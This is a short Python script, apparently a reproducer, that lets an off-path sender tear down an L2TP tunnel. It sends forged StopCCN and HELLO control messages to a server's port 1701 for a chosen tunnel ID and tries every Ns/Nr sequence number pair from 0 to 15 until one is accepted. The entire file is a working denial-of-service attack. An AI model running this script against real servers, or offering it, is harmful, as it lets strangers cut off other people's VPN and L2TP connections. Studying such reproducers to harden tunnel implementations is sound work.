#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""A stranger who wants a tunnel to end: l2tp.py SERVER TUNNEL, from an address that is not the
tunnel's. Every sequence number is tried that a young tunnel can have, for StopCCN and HELLO."""
import socket
import struct
import sys

STOPCCN, HELLO = 4, 6


def avp(attribute, value):
    return struct.pack(">HHH", 0x8000 | 6 + len(value), 0, attribute) + value


def message(tunnel, kind, ns, nr):
    body = avp(0, struct.pack(">H", kind))
    if kind == STOPCCN:
        body += avp(1, struct.pack(">H", 1)) + avp(9, struct.pack(">H", 1))
    return struct.pack(">HHHHHH", 0xC802, 12 + len(body), tunnel, 0, ns, nr) + body


def main():
    server, tunnel = sys.argv[1], int(sys.argv[2])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("", 1701))
        for ns in range(16):
            for nr in range(16):
                for kind in STOPCCN, HELLO:
                    sock.sendto(message(tunnel, kind, ns, nr), (server, 1701))


main()
